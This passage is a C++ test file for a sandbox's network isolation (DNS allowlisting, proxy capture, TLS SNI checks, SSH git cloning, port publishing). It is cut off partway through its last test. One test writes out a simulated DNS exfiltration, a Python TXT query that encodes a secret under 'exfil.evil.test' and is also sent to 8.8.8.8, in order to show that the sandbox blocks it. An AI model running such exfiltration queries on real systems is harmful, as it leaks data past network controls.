@@ -1,0 +1,726 @@
+// The network of a sealed run, end to end, with real programs in real seals
+// (`parallex run`): the run's own DNS, transparent capture into the proxy,
+// host:port rules, git over SSH, Local servers both ways, and the refusals.
+// Loopback servers get names through PARALLEX_TEST_RESOLVE (.test names to
+// loopback only, which needs Local servers: proxy/test_resolver.hpp), as the
+// proxy's own tests give names to theirs. Run as root, then again as the
+// unprivileged user pxtest (NetworkUnprivileged).
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <pwd.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <chrono>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <nlohmann/json.hpp>
+#include <random>
+#include <sstream>
+#include <string>
+#include <thread>
+#include <vector>
+
+namespace fs = std::filesystem;
+using nlohmann::json;
+using namespace std::chrono_literals;
+
+extern char** environ;
+
+namespace {
+
+const std::string kExe = PARALLEX_EXE;
+const std::string kHere = NETWORK_TEST_DIR;
+
+bool have(const std::string& tool) {
+  return std::system(("command -v " + tool + " >/dev/null 2>&1").c_str()) == 0;
+}
+
+std::string slurp(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  std::stringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+struct Outcome {
+  int status = -1;
+  std::string out;
+  std::string err;
+};
+
+// Runs argv with the current environment plus `extra`, stdout and stderr to
+// files; kills it after `timeout`.
+Outcome spawn_and_wait(const std::vector<std::string>& argv, const std::vector<std::string>& extra,
+                       const fs::path& dir, std::chrono::seconds timeout = 60s) {
+  static std::atomic<int> counter{0};
+  const int n = counter++;
+  const fs::path out = dir / ("out." + std::to_string(n)), err = dir / ("err." + std::to_string(n));
+  const pid_t pid = ::fork();
+  if (pid == 0) {
+    const int o = ::open(out.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    const int e = ::open(err.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    ::dup2(o, 1);
+    ::dup2(e, 2);
+    const int in = ::open("/dev/null", O_RDONLY);
+    ::dup2(in, 0);
+    for (const auto& kv : extra) ::putenv(const_cast<char*>(kv.c_str()));
+    std::vector<char*> args;
+    for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
+    args.push_back(nullptr);
+    ::execvp(args[0], args.data());
+    ::_exit(127);
+  }
+  Outcome r;
+  const auto deadline = std::chrono::steady_clock::now() + timeout;
+  int status = 0;
+  while (::waitpid(pid, &status, WNOHANG) == 0) {
+    if (std::chrono::steady_clock::now() > deadline) {
+      ::kill(pid, SIGKILL);
+      ::waitpid(pid, &status, 0);
+      r.err = "(killed after the timeout)\n";
+      break;
+    }
+    std::this_thread::sleep_for(5ms);
+  }
+  r.status = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+  r.out = slurp(out);
+  r.err += slurp(err);
+  return r;
+}
+
+// A port no one listens on at this moment (the kernel's pick, released).
+int free_port() {
+  const int probe = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ::bind(probe, reinterpret_cast<sockaddr*>(&a), sizeof a);
+  socklen_t len = sizeof a;
+  ::getsockname(probe, reinterpret_cast<sockaddr*>(&a), &len);
+  ::close(probe);
+  return ntohs(a.sin_port);
+}
+
+// A background process whose first stdout line is read (a server's port).
+struct Background {
+  pid_t pid = -1;
+  std::string first_line;
+  static Background start(const std::vector<std::string>& argv, bool wait_for_line = true) {
+    Background b;
+    int p[2];
+    if (::pipe2(p, O_CLOEXEC) != 0) return b;
+    b.pid = ::fork();
+    if (b.pid == 0) {
+      ::dup2(p[1], 1);
+      ::setpgid(0, 0);
+      std::vector<char*> args;
+      for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
+      args.push_back(nullptr);
+      ::execvp(args[0], args.data());
+      ::_exit(127);
+    }
+    ::close(p[1]);
+    pollfd pf{p[0], POLLIN, 0};
+    char c;
+    while (wait_for_line && ::poll(&pf, 1, 10000) > 0 && ::read(p[0], &c, 1) == 1 && c != '\n')
+      b.first_line += c;
+    ::close(p[0]);
+    return b;
+  }
+  ~Background() {
+    if (pid > 0) {
+      ::kill(-pid, SIGKILL);
+      ::kill(pid, SIGKILL);
+      ::waitpid(pid, nullptr, 0);
+    }
+  }
+};
+
+// A plain HTTP server on 127.0.0.1 (a thread): answers every request with
+// "hello from the host" and closes.
+class HttpServer {
+ public:
+  HttpServer() {
+    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a);
+    ::listen(fd_, 64);
+    socklen_t len = sizeof a;
+    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
+    port_ = ntohs(a.sin_port);
+    thread_ = std::thread([this] {
+      while (!stop_) {
+        const int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+        if (c < 0) continue;
+        ++connections_;
+        std::string head;
+        char buf[4096];
+        ssize_t n;
+        while (head.find("\r\n\r\n") == std::string::npos && (n = ::read(c, buf, sizeof buf)) > 0)
+          head.append(buf, static_cast<std::size_t>(n));
+        const std::string body = "hello from the host";
+        const std::string reply = "HTTP/1.1 200 OK\r\nContent-Length: " + std::to_string(body.size()) +
+                                  "\r\nConnection: close\r\n\r\n" + body;
+        [[maybe_unused]] auto w = ::write(c, reply.data(), reply.size());
+        ::close(c);
+      }
+    });
+  }
+  ~HttpServer() {
+    stop_ = true;
+    ::shutdown(fd_, SHUT_RDWR);
+    ::close(fd_);
+    thread_.join();
+  }
+  std::uint16_t port() const { return port_; }
+  int connections() const { return connections_; }
+
+ private:
+  int fd_ = -1;
+  std::uint16_t port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> connections_{0};
+  std::thread thread_;
+};
+
+class Network : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    char templ[] = "/tmp/px-network-XXXXXX";
+    ASSERT_NE(::mkdtemp(templ), nullptr);
+    root_ = templ;
+    for (const char* d : {"home", "runtime", "work", "logs"}) {
+      fs::create_directories(root_ / d);
+      ::chmod((root_ / d).c_str(), 0700);
+    }
+  }
+  void TearDown() override {
+    std::error_code ec;
+    fs::remove_all(root_, ec);
+  }
+
+  // `parallex run FLAGS -- sh -c SCRIPT` in the work folder; `resolve` is the
+  // test hook's map (NAME.test=127.0.0.1,...).
+  Outcome run(const std::vector<std::string>& flags, const std::string& script,
+              const std::string& resolve = {}, const std::vector<std::string>& env = {}) {
+    std::vector<std::string> argv{kExe, "run", "--in", (root_ / "work").string()};
+    argv.insert(argv.end(), flags.begin(), flags.end());
+    argv.insert(argv.end(), {"--", "sh", "-c", script});
+    std::vector<std::string> extra{"PARALLEX_HOME=" + (root_ / "home").string(),
+                                   "XDG_RUNTIME_DIR=" + (root_ / "runtime").string(),
+                                   "PARALLEX_TEST_RESOLVE=" + resolve};
+    extra.insert(extra.end(), env.begin(), env.end());
+    return spawn_and_wait(argv, extra, root_ / "logs");
+  }
+
+  // The proxy log of the latest run.
+  std::vector<json> log() const {
+    fs::path newest;
+    fs::file_time_type when{};
+    for (const auto& e : fs::recursive_directory_iterator(root_ / "home")) {
+      if (e.path().filename() != "proxy.jsonl") continue;
+      if (newest.empty() || e.last_write_time() > when) {
+        newest = e.path();
+        when = e.last_write_time();
+      }
+    }
+    std::vector<json> lines;
+    std::istringstream in(slurp(newest));
+    for (std::string l; std::getline(in, l);)
+      if (!l.empty()) lines.push_back(json::parse(l));
+    return lines;
+  }
+  static std::vector<json> where(const std::vector<json>& lines, const std::string& method,
+                                 const std::string& host) {
+    std::vector<json> out;
+    for (const auto& l : lines)
+      if (l["method"] == method && l["host"] == host) out.push_back(l);
+    return out;
+  }
+  static std::string dump(const std::vector<json>& lines) {
+    std::string s;
+    for (const auto& l : lines) s += l.dump() + "\n";
+    return s;
+  }
+
+  fs::path root_;
+};
+
+TEST_F(Network, GetentResolvesAllowedNamesToSyntheticAddressesAndNothingElse) {
+  const auto r =
+      run({"--allow", "allowed.test"},
+          "getent ahostsv4 api.allowed.test | head -1; getent ahostsv6 api.allowed.test | head -1; "
+          "getent hosts evil.test; echo denied=$?; getent hosts localhost | head -1; cat /etc/resolv.conf");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("198.18."), std::string::npos) << "IPv4 from the run's range: " << r.out;
+  EXPECT_NE(r.out.find("fd"), std::string::npos) << "IPv6 from the run's unique-local /64: " << r.out;
+  EXPECT_NE(r.out.find("denied=2"), std::string::npos) << "getent: 2 = not found: " << r.out;
+  EXPECT_NE(r.out.find("nameserver 127.0.0.1"), std::string::npos) << r.out;
+  EXPECT_NE(r.err.find("blocked-by-allowlist: evil.test (DNS query)"), std::string::npos) << r.err;
+  const auto lines = log();
+  const auto allowed = where(lines, "DNS", "api.allowed.test");
+  ASSERT_FALSE(allowed.empty()) << dump(lines);
+  EXPECT_EQ(allowed[0]["verdict"], "allowed");
+  EXPECT_EQ(allowed[0]["rcode"], "NOERROR");
+  const auto denied = where(lines, "DNS", "evil.test");
+  ASSERT_FALSE(denied.empty()) << dump(lines);
+  EXPECT_EQ(denied[0]["verdict"], "denied");
+  EXPECT_EQ(denied[0]["reason"], "blocked-by-allowlist");
+  EXPECT_EQ(denied[0]["rcode"], "NXDOMAIN");
+}
+
+TEST_F(Network, CurlWithoutProxyAndNodeFetchAreCaptured) {
+  HttpServer web;
+  const std::string port = std::to_string(web.port());
+  std::string script = "curl -sS --noproxy '*' --max-time 10 http://web.test:" + port + "/curl; echo";
+  if (have("node"))
+    script += "; node -e 'fetch(\"http://web.test:" + port +
+              "/node\").then(r => r.text()).then(t => console.log(\"node:\", t), e => console.log(\"node "
+              "error\", e))'";
+  const auto r = run({"--allow", "web.test:" + port, "--local-servers"}, script, "web.test=127.0.0.1");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("hello from the host\n"), std::string::npos) << r.out << r.err;
+  if (have("node")) {
+    EXPECT_NE(r.out.find("node: hello from the host"), std::string::npos) << r.out << r.err;
+  }
+  const auto lines = log();
+  const auto captured = where(lines, "TCP", "web.test");
+  ASSERT_GE(captured.size(), have("node") ? 2u : 1u) << dump(lines);
+  for (const auto& c : captured) {
+    EXPECT_EQ(c["verdict"], "allowed");
+    EXPECT_EQ(c["port"], web.port());
+    EXPECT_EQ(c["address"], "127.0.0.1") << "connected to the address the proxy checked";
+  }
+}
+
+TEST_F(Network, PythonSocketAndTlsToAnAllowedHostAndSniMismatchRefused) {
+  if (!have("python3") || !have("openssl")) GTEST_SKIP() << "python3 or openssl is not installed";
+  const fs::path cert = root_ / "cert.pem", key = root_ / "key.pem";
+  const auto made =
+      spawn_and_wait({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
+                      "-nodes", "-days", "1", "-subj", "/CN=tls.test", "-addext",
+                      "subjectAltName=DNS:tls.test", "-keyout", key.string(), "-out", cert.string()},
+                     {}, root_ / "logs");
+  ASSERT_EQ(made.status, 0) << made.err;
+  fs::copy_file(cert, root_ / "work" / "ca.pem");
+  Background server = Background::start({"python3", kHere + "/tls_server.py", cert.string(), key.string()});
+  ASSERT_FALSE(server.first_line.empty()) << "the TLS server did not start";
+  const std::string port = server.first_line;
+  const std::string client = R"PY(
+import socket, ssl, sys
+port = int(sys.argv[1])
+ctx = ssl.create_default_context(cafile="ca.pem")
+with socket.create_connection(("tls.test", port), timeout=10) as s:
+    print("peer", s.getpeername()[0])
+    with ctx.wrap_socket(s, server_hostname="tls.test") as t:
+        print("tls:", t.recv(100).decode().strip())
+ctx.check_hostname = False
+try:
+    with socket.create_connection(("tls.test", port), timeout=10) as s:
+        with ctx.wrap_socket(s, server_hostname="other.test") as t:
+            print("fronted:", t.recv(100))
+except (OSError, ssl.SSLError) as e:
+    print("fronting refused:", type(e).__name__)
+)PY";
+  {
+    std::ofstream f(root_ / "work" / "client.py");
+    f << client;
+  }
+  const auto r = run({"--allow", "tls.test:" + port, "--local-servers"}, "python3 client.py " + port,
+                     "tls.test=127.0.0.1");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_TRUE(r.out.find("peer 198.18.") != std::string::npos || r.out.find("peer fd") != std::string::npos)
+      << "connected to a synthetic address: " << r.out;
+  EXPECT_NE(r.out.find("tls: hello over tls"), std::string::npos) << r.out << r.err;
+  EXPECT_NE(r.out.find("fronting refused"), std::string::npos) << r.out << r.err;
+  const auto lines = log();
+  const auto tcp = where(lines, "TCP", "tls.test");
+  ASSERT_EQ(tcp.size(), 2u) << dump(lines);
+  EXPECT_EQ(tcp[0]["verdict"], "allowed");
+  EXPECT_EQ(tcp[0]["inspected"], "tls-sni");
+  EXPECT_EQ(tcp[1]["verdict"], "denied");
+  EXPECT_EQ(tcp[1]["reason"], "sni-mismatch");
+}
+
+TEST_F(Network, GoClientWithProxyNilResolvesAndConnectsThroughTheRun) {
+  if (!have("go")) GTEST_SKIP() << "go is not installed (apt-get install golang-go)";
+  HttpServer web;
+  const fs::path bin = root_ / "work" / "noproxy_get";
+  // Built outside the seal (static, Go's own resolver); a cache shared between test runs.
+  const auto built =
+      spawn_and_wait({"go", "build", "-o", bin.string(), kHere + "/noproxy_get.go"},
+                     {"CGO_ENABLED=0", "GOCACHE=/tmp/px-network-gocache-" + std::to_string(::getuid()),
+                      "GOPATH=" + (root_ / "gopath").string(), "GO111MODULE=off"},
+                     root_ / "logs", 300s);
+  ASSERT_EQ(built.status, 0) << built.out << built.err;
+  const std::string url = "http://web.test:" + std::to_string(web.port()) + "/go";
+  const auto r = run({"--allow", "web.test:" + std::to_string(web.port()), "--local-servers"},
+                     "GODEBUG=netdns=go ./noproxy_get " + url, "web.test=127.0.0.1");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_EQ(r.out, "200 hello from the host");
+  EXPECT_FALSE(where(log(), "TCP", "web.test").empty()) << dump(log());
+}
+
+TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
+  if (!have("git") || !have("ssh") || !fs::exists("/usr/sbin/sshd"))
+    GTEST_SKIP() << "git, ssh or sshd is not installed (apt-get install openssh-server)";
+  const fs::path s = root_ / "sshd";
+  fs::create_directories(s);
+  const auto keygen = spawn_and_wait(
+      {"ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", (s / "host").string()}, {}, root_ / "logs");
+  ASSERT_EQ(keygen.status, 0) << keygen.err;
+  // The repository the run clones.
+  const fs::path repo = s / "repo.git";
+  const std::vector<std::string> git_env{"GIT_CONFIG_NOSYSTEM=1", "HOME=" + s.string(),
+                                         "GIT_AUTHOR_NAME=t",     "GIT_AUTHOR_EMAIL=t@t",
+                                         "GIT_COMMITTER_NAME=t",  "GIT_COMMITTER_EMAIL=t@t"};
+  ASSERT_EQ(
+      spawn_and_wait({"git", "init", "-q", "--bare", "-b", "main", repo.string()}, git_env, root_ / "logs")
+          .status,
+      0);
+  const auto seeded = spawn_and_wait(
+      {"sh", "-c",
+       "set -e; git init -q -b main " + (s / "seed").string() + " && cd " + (s / "seed").string() +
+           " && echo 'cloned over ssh' > README && git add README && git commit -q -m one && git push -q " +
+           repo.string() + " main"},
+      git_env, root_ / "logs");
+  ASSERT_EQ(seeded.status, 0) << seeded.err;
+
+  const std::string port = std::to_string(free_port());
+
+  // An agent: its key is the one the sshd knows; its rules (agent.yaml) open
+  // the sshd's name on that port only.
+  const auto pw = ::getpwuid(::getuid());
+  ASSERT_NE(pw, nullptr);
+  const std::vector<std::string> px_env{"PARALLEX_HOME=" + (root_ / "home").string(),
+                                        "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
+  const auto made = spawn_and_wait({kExe, "agent", "new", "sshbot", "--email", "sshbot@example.com",
+                                    "--allow", "gitsrv.test:" + port, "--local-servers", "on"},
+                                   px_env, root_ / "logs");
+  ASSERT_EQ(made.status, 0) << made.err;
+  fs::path agent_key;
+  for (const auto& e : fs::recursive_directory_iterator(root_ / "home"))
+    if (e.path().filename() == "id_ed25519.pub" &&
+        e.path().parent_path().parent_path().filename() == "sshbot")
+      agent_key = e.path();
+  ASSERT_FALSE(agent_key.empty());
+  fs::copy_file(agent_key, s / "authorized_keys");
+  ::chmod((s / "authorized_keys").c_str(), 0600);
+
+  // sshd, as whoever runs the test (root needs its privsep dir).
+  if (::getuid() == 0) fs::create_directories("/run/sshd");
+  {
+    std::ofstream c(s / "sshd_config");
+    c << "Port " << port << "\nListenAddress 127.0.0.1\nHostKey " << (s / "host").string()
+      << "\nAuthorizedKeysFile " << (s / "authorized_keys").string()
+      << "\nStrictModes no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n"
+         "PermitRootLogin prohibit-password\nUsePAM no\nPidFile "
+      << (s / "pid").string() << "\n";
+  }
+  Background sshd =
+      Background::start({"/usr/sbin/sshd", "-f", (s / "sshd_config").string(), "-D", "-e"}, false);
+  for (int i = 0; i < 100; ++i) {
+    const int t = ::socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    a.sin_port = htons(static_cast<std::uint16_t>(std::stoi(port)));
+    const bool up = ::connect(t, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
+    ::close(t);
+    if (up) break;
+    std::this_thread::sleep_for(20ms);
+  }
+
+  // The agent's run: git's ssh is the agent's (its key, its known hosts), the
+  // connection is captured (no ProxyCommand), the user's ~/.ssh stays hidden.
+  std::vector<std::string> argv{kExe,
+                                "agent",
+                                "run",
+                                "sshbot",
+                                "--in",
+                                (root_ / "work").string(),
+                                "--",
+                                "sh",
+                                "-c",
+                                "git clone -q ssh://" + std::string(pw->pw_name) + "@gitsrv.test:" + port +
+                                    repo.string() +
+                                    " clone && cat clone/README; ls ~/.ssh 2>&1 | head -1; "
+                                    "echo auth_sock=${SSH_AUTH_SOCK:-unset}"};
+  std::vector<std::string> env = px_env;
+  env.push_back("PARALLEX_TEST_RESOLVE=gitsrv.test=127.0.0.1");
+  env.push_back("SSH_AUTH_SOCK=/tmp/user-agent.sock");
+  const auto r = spawn_and_wait(argv, env, root_ / "logs", 120s);
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("cloned over ssh"), std::string::npos) << r.out << r.err;
+  EXPECT_NE(r.out.find("auth_sock=unset"), std::string::npos)
+      << "the user's ssh-agent is not passed: " << r.out;
+  const auto lines = log();
+  const auto tcp = where(lines, "TCP", "gitsrv.test");
+  ASSERT_FALSE(tcp.empty()) << dump(lines);
+  EXPECT_EQ(tcp[0]["verdict"], "allowed");
+  EXPECT_EQ(tcp[0]["inspected"], "none") << "SSH is relayed as raw TCP, and the log says so";
+}
+
+TEST_F(Network, DnsExfiltrationEndsInTheRun) {
+  std::mt19937_64 rng(std::random_device{}());
+  std::string label;
+  for (int i = 0; i < 60; ++i) label += "abcdefghijklmnopqrstuvwxyz0123456789"[rng() % 36];
+  const std::string secret = label + ".exfil.evil.test";
+  // A raw TXT query too (what exfiltration tools use), and a query to a DNS
+  // server outside: no packet leaves the namespace.
+  const std::string script = "getent hosts " + secret +
+                             "; echo getent=$?; python3 - <<'EOF'\n"
+                             "import socket, struct\n"
+                             "name = '" +
+                             secret +
+                             "'\n"
+                             "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
+                             "q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'\n"
+                             "q += struct.pack('>HH', 16, 1)\n"
+                             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
+                             "s.sendto(q, ('127.0.0.1', 53)); a = s.recv(512)\n"
+                             "print('txt rcode', a[3] & 15, 'answers', struct.unpack('>H', a[6:8])[0])\n"
+                             "o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                             "try:\n    o.sendto(q, ('8.8.8.8', 53)); print('outside: sent?!')\n"
+                             "except OSError as e: print('outside:', e.errno)\n"
+                             "EOF";
+  const auto r = run({"--allow", "allowed.test"}, script);
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("getent=2"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("txt rcode 3 answers 0"), std::string::npos) << "NXDOMAIN, answered inside: " << r.out;
+  EXPECT_NE(r.out.find("outside: 101"), std::string::npos) << "ENETUNREACH: " << r.out;
+  const auto lines = log();
+  const auto asked = where(lines, "DNS", secret);
+  ASSERT_GE(asked.size(), 2u) << dump(lines);
+  for (const auto& l : asked) {
+    EXPECT_EQ(l["verdict"], "denied");
+    EXPECT_EQ(l["reason"], "blocked-by-allowlist");
+  }
+  EXPECT_TRUE(where(lines, "TCP", secret).empty());
+  EXPECT_NE(r.err.find(secret + " (DNS query)"), std::string::npos) << r.err;
+}
+
+TEST_F(Network, RefusedAtOnceOutsideTheCapturedPortsAndUdpRefused) {
+  HttpServer web;
+  const std::string port = std::to_string(web.port());
+  const std::string script =
+      "python3 - <<'EOF'\n"
+      "import socket, time\n"
+      "def tcp(host, port):\n"
+      "    t = time.monotonic()\n"
+      "    try:\n"
+      "        socket.create_connection((host, port), timeout=5).close(); return 'open'\n"
+      "    except OSError as e: return '%d in %.1fs' % (e.errno, time.monotonic() - t)\n"
+      "web = socket.getaddrinfo('web.test', None, socket.AF_INET)[0][4][0]\n"
+      "print('never allowed', tcp('198.18.0.200', 443))\n"
+      "print('other port', tcp(web, " +
+      std::to_string(web.port() == 65535 ? 1 : web.port() + 1) +
+      "))\n"
+      "print('allowed port', tcp(web, " +
+      port +
+      "))\n"
+      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.connect((web, 443))\n"
+      "u.send(b'quic initial')\n"
+      "try: u.recv(100); print('udp answered?!')\n"
+      "except OSError as e: print('udp', e.errno)\n"
+      "EOF";
+  const auto r = run({"--allow", "web.test:" + port, "--local-servers"}, script, "web.test=127.0.0.1");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("never allowed 111 in 0.0s"), std::string::npos) << "ECONNREFUSED at once: " << r.out;
+  EXPECT_NE(r.out.find("other port 111 in 0.0s"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("allowed port open"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("udp 111"), std::string::npos) << "UDP (QUIC) refused: ICMP unreachable: " << r.out;
+}
+
+TEST_F(Network, GarbageOnACapturedConnectionOrTheDnsIsRefusedAndServingGoesOn) {
+  HttpServer web;
+  const std::string port = std::to_string(web.port());
+  const std::string script =
+      "python3 - <<'EOF'\n"
+      "import socket, struct\n"
+      "s = socket.create_connection(('web.test', 443), timeout=5)\n"
+      "s.sendall(b'\\x00\\x01 not tls, not http\\r\\n\\r\\n')\n"
+      "try: print('garbage answer', s.recv(100))\n"
+      "except OSError as e: print('garbage reset', e.errno)\n"
+      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)\n"
+      "u.sendto(b'\\xff' * 7, ('127.0.0.1', 53))\n"
+      "try: u.recv(512); print('short answered?!')\n"
+      "except OSError: print('short dropped')\n"
+      "u.sendto(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\\x05web', ('127.0.0.1', 53))\n"
+      "a = u.recv(512); print('formerr', a[3] & 15)\n"
+      "t = socket.create_connection(('127.0.0.1', 53), timeout=5)\n"
+      "t.sendall(b'\\x00\\x03abc')\n"
+      "print('tcp dns garbage closed', t.recv(10) == b'')\n"
+      "EOF\n"
+      "curl -sS --noproxy '*' --max-time 10 http://web.test:" +
+      port + "/after";
+  const auto r = run({"--allow", "web.test", "--allow", "web.test:" + port, "--local-servers"}, script,
+                     "web.test=127.0.0.1");
+  ASSERT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("garbage reset 104"), std::string::npos) << "ECONNRESET: " << r.out;
+  EXPECT_NE(r.out.find("short dropped"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("formerr 1"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("tcp dns garbage closed True"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("hello from the host"), std::string::npos) << "the proxy keeps serving: " << r.out;
+  EXPECT_EQ(web.connections(), 1) << "nothing of the garbage reached the upstream";
+  const auto lines = log();
+  bool unexpected = false, malformed = false;
+  for (const auto& l : lines) {
+    unexpected = unexpected || (l["method"] == "TCP" && l["reason"] == "unexpected-protocol");
+    malformed = malformed || (l["method"] == "DNS" && l["reason"] == "dns-malformed");
+  }
+  EXPECT_TRUE(unexpected) << dump(lines);
+  EXPECT_TRUE(malformed) << dump(lines);
+}
+
+TEST_F(Network, AListenerInsideIsNotReachableFromTheHost) {
+  // The run binds a port and says which; the host tries it while the run waits
+  // (only a published port reaches inside).
+  const fs::path marker = root_ / "work" / "port";
+  std::thread host_side;
+  std::string from_host;
+  const std::string script =
+      "python3 - <<'EOF'\n"
+      "import socket, time, os\n"
+      "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
+      "open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port')\n"
+      "s.settimeout(3)\n"
+      "try: s.accept(); print('accepted from outside?!')\n"
+      "except OSError: print('no one came')\n"
+      "EOF";
+  host_side = std::thread([&] {
+    for (int i = 0; i < 500 && !fs::exists(marker); ++i) std::this_thread::sleep_for(10ms);
+    const int port = std::atoi(slurp(marker).c_str());
+    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_port = htons(static_cast<std::uint16_t>(port));
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    from_host =
+        ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 ? "connected" : std::to_string(errno);
+    ::close(fd);
+  });
+  const auto inside = run({"--allow", "allowed.test", "--local-servers"}, script);
+  host_side.join();
+  ASSERT_EQ(inside.status, 0) << inside.out << inside.err;
+  EXPECT_NE(inside.out.find("no one came"), std::string::npos) << inside.out;
+  EXPECT_EQ(from_host, std::to_string(ECONNREFUSED));
+}
+
+TEST_F(Network, LocalServersMirroredIntoTheRunAndPublishedOut) {
+  HttpServer web;
+  const auto mirrored =
+      run({"--allow", "allowed.test", "--local-servers"},
+          "curl -sS --noproxy '*' --max-time 10 http://localhost:" + std::to_string(web.port()) + "/");
+  ASSERT_EQ(mirrored.status, 0) << mirrored.out << mirrored.err;
+  EXPECT_EQ(mirrored.out, "hello from the host");
+  // Without Local servers nothing of this machine shows inside.
+  const auto off = run({"--allow", "allowed.test"}, "curl -sS --noproxy '*' --max-time 5 http://localhost:" +
+                                                        std::to_string(web.port()) + "/; echo rc=$?");
+  EXPECT_NE(off.out.find("rc=7"), std::string::npos) << off.out << off.err;
+
+  // Published: a server inside on 127.0.0.1:PORT, reached from here on HOSTPORT.
+  const int host_port = free_port();
+  std::string fetched;
+  std::thread client([&] {
+    for (int i = 0; i < 300 && fetched.find("inside") == std::string::npos; ++i) {
+      std::this_thread::sleep_for(20ms);
+      const auto c = spawn_and_wait(
+          {"curl", "-sS", "--max-time", "2", "http://127.0.0.1:" + std::to_string(host_port) + "/"}, {},
+          root_ / "logs");
+      fetched = c.out;
+    }
+  });
+  const auto served =
+      run({"--offline", "--publish", "18999:" + std::to_string(host_port)},
+          "python3 - <<'EOF'\n"
+          "import http.server\n"
+          "class H(http.server.BaseHTTPRequestHandler):\n"
+          "    def do_GET(self):\n"
+          "        self.send_response(200); self.end_headers(); self.wfile.write(b'served from inside')\n"
+          "    def log_message(self, *a): pass\n"
+          "s = http.server.HTTPServer(('127.0.0.1', 18999), H); s.timeout = 10; s.handle_request()\n"
+          "EOF");
+  client.join();
+  EXPECT_EQ(served.status, 0) << served.out << served.err;
+  EXPECT_EQ(fetched, "served from inside");
+}
+
+TEST_F(Network, MalformedHostPortRulesAreRefusedWithTheFix) {
+  const std::pair<const char*, const char*> cases[] = {
+      {"web.test:0", "between 1 and 65535"},
+      {"web.test:65536", "between 1 and 65535"},
+      {"web.test:20-30", "one port per rule"},
+      {"https://web.test", "scheme"},
+      {"com", "public suffix"},
+      {"*.co.uk:443", "public suffix"},
+  };
+  for (const auto& [rule, fix] : cases) {
+    const auto r = run({"--allow", rule}, "echo ran");
+    EXPECT_EQ(r.status, 125) << rule << ": " << r.err;  // a run that could not start
+    EXPECT_EQ(r.out.find("ran"), std::string::npos) << rule;
+    EXPECT_NE(r.err.find(fix), std::string::npos) << rule << ": " << r.err;
+  }
+}
+
+// ---- The unprivileged pass -------------------------------------------------------------
+
+TEST(NetworkUnprivileged, AsUnprivilegedUser) {
+  if (::getuid() != 0) GTEST_SKIP() << "already unprivileged: this whole run is the unprivileged pass";
+  if (std::getenv("PX_NETWORK_CHILD")) GTEST_SKIP() << "nested";
+  const char* user = "pxtest";
+  if (!::getpwnam(user) && std::system("useradd -m pxtest >/dev/null 2>&1") != 0)
+    GTEST_SKIP() << "cannot create the unprivileged user pxtest (useradd failed)";
+  const passwd* pw = ::getpwnam(user);
+  ASSERT_NE(pw, nullptr);
+  const uid_t uid = pw->pw_uid;
